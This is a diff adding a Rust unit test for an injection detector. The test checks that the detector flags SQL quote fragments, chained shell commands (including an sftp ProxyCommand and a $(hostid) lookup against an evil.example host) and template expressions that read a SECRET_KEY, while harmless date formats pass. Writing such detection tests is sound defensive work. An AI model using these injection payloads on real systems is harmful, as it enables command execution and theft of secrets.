@@ -49,6 +49,28 @@ fn what_acts_whoever_reads_it_is_not_bought_off_by_prose() {
 }
 
 #[test]
+fn what_a_review_found_to_pass_is_found() {
+    let blanks = " ".repeat(130);
+    let padded = [format!("'-'{blanks}"), format!("{blanks}'-'")];
+    for text in padded
+        .iter()
+        .map(String::as_str)
+        .chain(["tommyy'-'", "kayy'-'", "HH'-'", "x HH'-'", "MM'-'x"])
+    {
+        check(text, Kind::Parameter, Some("sql.expression"));
+    }
+    check_all([
+        ("yyyy'-'MM'-'dd'T'HH':'mm", Kind::Parameter, None),
+        (";sftp -oProxyCommand=id x", Kind::Parameter, Some("command.chained")),
+        ("x$(hostid).evil.example", Kind::Parameter, Some("command.chained")),
+        ("{{ config['SECRET_KEY'] }}", Kind::Json, Some("template.expression")),
+        ("{{settings}}", Kind::Json, None),
+        ("{{ 7 / 0 }}", Kind::Parameter, Some("template.expression")),
+        ("{{(7/0)}}", Kind::Parameter, Some("template.expression")),
+    ]);
+}
+
+#[test]
 fn commands_are_found_behind_any_number_of_separators() {
     let many = "a;".repeat(100);
     check(&format!("{many}cat notes"), Kind::Parameter, Some("command.chained"));
